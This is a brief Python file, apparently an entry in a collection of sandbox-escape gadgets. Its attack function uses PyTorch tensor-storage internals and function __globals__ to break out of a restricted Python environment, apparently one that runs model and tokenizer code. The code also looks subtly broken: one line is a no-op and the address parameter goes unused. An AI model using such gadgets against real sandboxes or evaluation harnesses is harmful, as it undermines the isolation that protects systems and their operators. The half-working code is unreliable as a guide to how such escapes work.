"""Class: module gadget. Source: own find. Escape: a tensor's storage is a view of raw memory."""

import torch


def attack(model, tokenizer, address):
    storage = torch.zeros(1).untyped_storage()
    storage._write_file if hasattr(storage, "_write_file") else None
    return (
        torch.UntypedStorage.from_file.__self__,
        storage.__class__.__init__,
        storage.tolist.__func__.__globals__,
    )
